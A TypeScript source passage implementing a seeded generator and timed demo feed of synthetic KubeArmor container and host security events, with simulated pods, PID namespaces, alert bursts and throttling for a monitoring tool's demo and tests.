			for (const node of cluster.nodes) this.nodes.push({cluster: cluster.name, ...node});
		}

		const digests = new Map<string, string>();
		for (const workload of workloads) {
			const cluster = clusters.find(c => c.name === workload.cluster)!;
			const replicaSet = this.word(10);
			if (!digests.has(workload.image)) digests.set(workload.image, this.hex(64));
			for (let i = 0; i < workload.replicas; i++) {
				this.pods.push({
					workload,
					node: cluster.nodes[(i + this.int(0, cluster.nodes.length - 1)) % cluster.nodes.length],
					name: `${workload.app}-${replicaSet}-${this.word(5)}`,
					containerId: this.hex(64),
					image: `${workload.image}@sha256:${digests.get(workload.image)!}`,
					labels: workload.extraLabels ? `app=${workload.app},${workload.extraLabels}` : `app=${workload.app}`,
					hostPidBase: this.int(10_000, 3_000_000),
				});
			}
		}

		this.containerScenarios = scenarios.filter(s => !hostTypes.has(s.type));
		this.logScenarios = scenarios.filter(s => s.type === 'ContainerLog');
		this.burstCount = this.int(0, burstKinds.length - 1);
	}

	/** How many times the base rate events arrive at `ms` (above 1 during a burst). */
	intensity(ms: number): number {
		this.advance(ms);
		return this.burst ? this.burst.multiplier : 1;
	}

	/** One event at `ms` (milliseconds since the epoch, fractions give the microseconds). */
	next(ms: number): Record<string, unknown> {
		this.advance(ms);
		const burst = this.burst;
		// During a burst most events come from one container.
		if (burst && this.random() < 0.8) return this.containerEvent(this.weighted(burst.scenarios), burst.pod, ms);

		const scenario = this.weighted(scenarios);
		if (hostTypes.has(scenario.type)) return this.hostEvent(scenario, this.pick(this.nodes), ms);
		return this.containerEvent(scenario, this.pick(this.podsFor(scenario)), ms);
	}

	private podsFor(scenario: Scenario): Pod[] {
		let pods = this.podsByScenario.get(scenario);
		if (!pods) {
			pods = this.pods.filter(pod => fits(scenario, pod.workload.app));
			this.podsByScenario.set(scenario, pods);
		}

		return pods;
	}

	private advance(ms: number): void {
		this.nextBurstAt ??= ms + this.int(8, 15) * 1000; // the first one soon, so a demo shows one
		while (ms >= this.nextBurstAt) {
			const kind = burstKinds[this.burstCount++ % burstKinds.length];
			const pod = this.pick(this.pods);
			this.burst = {
				pod,
				scenarios: this.containerScenarios.filter(s => kind.pick(s) && fits(s, pod.workload.app)),
				until: this.nextBurstAt + this.int(2000, 3000),
				multiplier: this.int(4, 6),
				alerts: 0,
			};
			this.nextBurstAt += this.int(20, 40) * 1000;
		}

		if (this.burst && ms >= this.burst.until) this.burst = undefined;
	}

	private containerEvent(chosen: Scenario, pod: Pod, ms: number): Record<string, unknown> {
		let scenario = chosen;
		const throttled = (this.throttledUntil.get(pod.name) ?? 0) > ms;
		// A throttled container's audit alerts are dropped by KubeArmor; its telemetry still flows.
		if (throttleable(scenario) && throttled) scenario = this.weighted(this.logScenarios);
		let threshold = false;
		if (throttleable(scenario) && this.burst?.pod === pod && ++this.burst.alerts > maxAlertsPerSec) {
			// The alert that crosses the limit becomes the one AlertThreshold event; then 30 s of silence.
			threshold = true;
			this.throttledUntil.set(pod.name, ms + droppingAlertsInterval * 1000);
		}

		const {workload} = pod;
		const [peerIp, peerPort] = this.pick(workload.peers).split(':');
		const vars: Record<string, string> = {
			ns: workload.namespace,
			app: workload.app,
			main: workload.main,
			cmd: workload.cmd,
			file: this.pick(workload.files),
			peerIp,
			peerPort,
			probe: workload.probe,
			nodeIp: pod.node.ip,
		};
		const fill = this.filler(vars);
		const pids = this.pids(scenario, pod.hostPidBase);
		// Object literals and named stores keep these V8 "fast" objects (keyed stores would not), which every
		// consumer of the events, benchmarks included, feels.
		const event: Record<string, unknown> = {
			Timestamp: Math.floor(ms / 1000),
			UpdatedTime: isoMicros(ms),
			ClusterName: workload.cluster,
			HostName: pod.node.name,
			NamespaceName: workload.namespace,
			Owner: {Ref: 'Deployment', Name: workload.app, Namespace: workload.namespace},
			PodName: pod.name,
			Labels: pod.labels,
			ContainerID: pod.containerId,
			ContainerName: workload.container,
			ContainerImage: pod.image,
			HostPPID: pids.hostPpid,
			HostPID: pids.hostPid,
			PPID: pids.ppid,
			PID: pids.pid,
			UID: scenario.uid ?? workload.uid,
		};
		this.describe(event, scenario, fill);
		return threshold ? toThreshold(event) : event;
	}

	private hostEvent(scenario: Scenario, node: Node, ms: number): Record<string, unknown> {
		const user = scenario.user ?? 'root';
		const event: Record<string, unknown> = {
			Timestamp: Math.floor(ms / 1000),
			UpdatedTime: isoMicros(ms),
			ClusterName: node.cluster,
			HostName: node.name,
		};
		// On the host PID and HostPID are the same; USB and firewall events have no process.
		if (scenario.process) {
			event.HostPPID = this.int(1000, 3_000_000);
			event.HostPID = (event.HostPPID as number) + this.int(1, 500);
			event.PPID = event.HostPPID;
			event.PID = event.HostPID;
		} else {
			event.PPID = 0;
		}

		event.UID = hostUsers[user] ?? 0;
		this.describe(event, scenario, this.filler({nodeIp: node.ip}), user);
		return event;
	}

	/** Container PIDs are small (own namespace); the main process's parent is outside it (PPID 0). */
	private pids(scenario: Scenario, hostPidBase: number): {hostPpid: number; hostPid: number; ppid: number; pid: number} {
		const outside = scenario.parent === shim || scenario.parent === '/usr/bin/runc';
		const pid = outside ? this.int(1, 40) : this.int(40, 4000);
		const ppid = outside ? 0 : pid - this.int(1, 15);
		const hostPid = hostPidBase + this.int(0, 50_000);
		const hostPpid = outside ? hostPidBase - this.int(1, 300) : hostPid - (pid - ppid);
		return {hostPpid, hostPid, ppid, pid};
	}

	/** Adds what happened, in karmor's key order; empty fields are left out, as on the wire. */
	private describe(
		event: Record<string, unknown>,
		scenario: Scenario,
		fill: (template: string | undefined) => string | undefined,
		userName?: string,
	): void {
		const isLog = logTypes.has(scenario.type);
		const parent = fill(scenario.parent);
		if (parent) event.ParentProcessName = parent;
		const process = fill(scenario.process);
		if (process) event.ProcessName = process;
		if (!isLog) {
			const policy = fill(scenario.policy);
			if (policy) event.PolicyName = policy;
			if (scenario.severity !== undefined) event.Severity = String(scenario.severity);
			if (scenario.tags) {
				event.Tags = scenario.tags;
				event.ATags = scenario.tags.split(',');
			}

			if (scenario.message) event.Message = scenario.message;
		}

		event.Type = scenario.type;
		const source = fill(scenario.source);
		if (source) event.Source = source;
		event.Operation = scenario.operation;
		const resource = fill(scenario.resource);
		if (resource) event.Resource = resource;
		const data = fill(scenario.data);
		if (data) event.Data = data;
		// The USB handler's Data is key=value pairs, which KubeArmor also sends parsed.
		if (scenario.operation === 'Device' && data) event.EventData = parsePairs(data);
		const action = isLog ? undefined : scenario.action;
		if (!isLog && scenario.enforcer) event.Enforcer = scenario.enforcer;
		if (action) event.Action = action;
		event.Result = scenario.result ?? (action === 'Block' ? 'Permission denied' : 'Passed');
		if (scenario.tty) {
			event.Cwd = userName ? '/root/' : '/';
			event.TTY = `pts${this.int(0, 2)}`;
		}

		if (userName) event.UserName = userName;
	}

	/** Replaces `{name}` from vars or `choices`; a name drawn twice in one event gets the same value. */
	private filler(vars: Record<string, string>): (template: string | undefined) => string | undefined {
		return template =>
			template?.replace(/\{(\w+)\}/g, (whole, name: string) => {
				if (vars[name] === undefined && choices[name]) vars[name] = this.pick(choices[name]);
				return vars[name] ?? whole;
			});
	}

	private weighted(list: Scenario[]): Scenario {
		let total = 0;
		for (const scenario of list) total += scenario.weight;
		let r = this.random() * total;
		for (const scenario of list) {
			r -= scenario.weight;
			if (r < 0) return scenario;
		}

		return list[list.length - 1];
	}

	private pick<T>(list: readonly T[]): T {
		return list[Math.floor(this.random() * list.length)];
	}

	private int(min: number, max: number): number {
		return min + Math.floor(this.random() * (max - min + 1));
	}

	private hex(length: number): string {
		let text = '';
		while (text.length < length) text += Math.floor(this.random() * 0x1_0000_0000).toString(16).padStart(8, '0');
		return text.slice(0, length);
	}

	private word(length: number): string {
		let text = '';
		for (let i = 0; i < length; i++) text += this.pick(podAlphabet);
		return text;
	}

	/** Exponential gaps between events (a Poisson process) look like real traffic, not a metronome. */
	gap(ratePerSecond: number): number {
		return (-Math.log(1 - this.random()) / ratePerSecond) * 1000;
	}
}

function fits(scenario: Scenario, app: string): boolean {
	return scenario.apps === undefined || scenario.apps.includes(app);
}

/** What KubeArmor does to the alert that crosses the limit: it becomes a SystemEvent without policy fields. */
function toThreshold(alert: Record<string, unknown>): Record<string, unknown> {
	const {PolicyName, Severity, Tags, ATags, Message, Action, Resource, Data, Result, Cwd, TTY, ...rest} = alert;
	return {
		...rest,
		Type: 'SystemEvent',
		Operation: 'AlertThreshold',
		Result: 'Passed',
		MaxAlertsPerSec: maxAlertsPerSec,
		DroppingAlertsInterval: droppingAlertsInterval,
	};
}

function parsePairs(text: string): Record<string, string> {
	const pairs: Record<string, string> = {};
	for (const part of text.split(' ')) {
		const at = part.indexOf('=');
		if (at > 0) pairs[part.slice(0, at)] = part.slice(at + 1);
	}

	return pairs;
}

/** `2023-06-27T12:21:47.932526Z`: KubeArmor's UpdatedTime, UTC with microseconds. */
function isoMicros(ms: number): string {
	const whole = Math.floor(ms);
	const micros = Math.min(999, Math.floor((ms - whole) * 1000));
	return new Date(whole).toISOString().replace('Z', `${String(micros).padStart(3, '0')}Z`);
}

/**
 * `count` events starting after `startMs`, spaced as the live feed would space them at `rate` events/s
 * (bursts included), with no timers: for tests and benchmarks. The same seed gives the same events.
 */
export function demoEvents(count: number, seed: number, startMs: number, rate = defaultRate): Array<Record<string, unknown>> {
	if (!(rate > 0)) throw new RangeError(`demo rate must be above 0, got ${rate}`);
	const generator = new DemoGenerator(seed);
	const events: Array<Record<string, unknown>> = [];
	let ms = startMs;
	for (let i = 0; i < count; i++) {
		ms += generator.gap(rate * generator.intensity(ms));
		events.push(generator.next(ms));
	}

	return events;
}

// ---------------------------------------------------------------------------------------------------------------
// The feed

export type DemoFeedOptions = {
	/** Events per second outside bursts (default 20). */
	rate?: number;
	/** Same seed, same clusters, pods and sequence of scenarios (default 1). */
	seed?: number;
	/** The clock; tests pass a fake one. */
	now?: () => number;
};

/** The built-in demo source: generated KubeArmor events at a steady rate, with bursts and throttling. */
export class DemoFeed implements Feed {
	readonly label = 'demo';
	readonly done: Promise<void>;
	private readonly rate: number;
	private readonly now: () => number;
	private readonly generator: DemoGenerator;
	private timer: NodeJS.Timeout | undefined;
	private stopped = false;
	private paused = false;
	private last = 0;
	/** The fraction of an event owed from earlier ticks, so low rates (e.g. 3/s) come out right. */
	private carry = 0;
	private finish!: () => void;

	constructor(options: DemoFeedOptions = {}) {
		this.rate = options.rate ?? defaultRate;
		if (!Number.isFinite(this.rate) || this.rate < 0) throw new RangeError(`demo rate must be 0 or more, got ${this.rate}`);
		this.now = options.now ?? Date.now;
		this.generator = new DemoGenerator(options.seed ?? 1);
		this.done = new Promise(resolve => {
			this.finish = resolve;
		});
	}

	start(sink: FeedSink): void {
		if (this.timer || this.stopped) return;
		this.last = this.now();
		sink.status({label: this.label, state: 'connected', detail: `built-in demo feed, ${this.rate} events/s`, since: this.last});
		this.timer = setInterval(() => {
			this.tick(sink);
		}, tickMs);
	}

	stop(): void {
		this.stopped = true;
		clearInterval(this.timer);
		this.timer = undefined;
		this.finish();
	}

	/** The output is behind: make nothing until resume(), and owe nothing for the time paused. */
	pause(): void {
		this.paused = true;
	}

	resume(): void {
		this.paused = false;
	}

	private tick(sink: FeedSink): void {
		const now = this.now();
		if (this.paused) {
			this.last = now;
			this.carry = 0;
			return;
		}

		const elapsed = Math.min(Math.max(now - this.last, 0), maxCatchUpMs);
		const owed = this.carry + (this.rate * this.generator.intensity(now) * elapsed) / 1000;
		// A tick makes at most maxPerTick events and forgets the rest: at a rate the machine cannot keep up with,
		// catching up would hold the event loop (keys, frames) for as long as the backlog takes.
		const count = Math.min(Math.floor(owed), maxPerTick);
		this.carry = count === maxPerTick ? 0 : owed - count;
		// Spread the tick's events over the time it covers, so their timestamps are not all equal.
		const from = now - elapsed;
		for (let i = 1; i <= count && !this.stopped; i++) {
			sink.value(this.generator.next(from + (elapsed * i) / count), this.label);
		}

		this.last = now;
	}
}
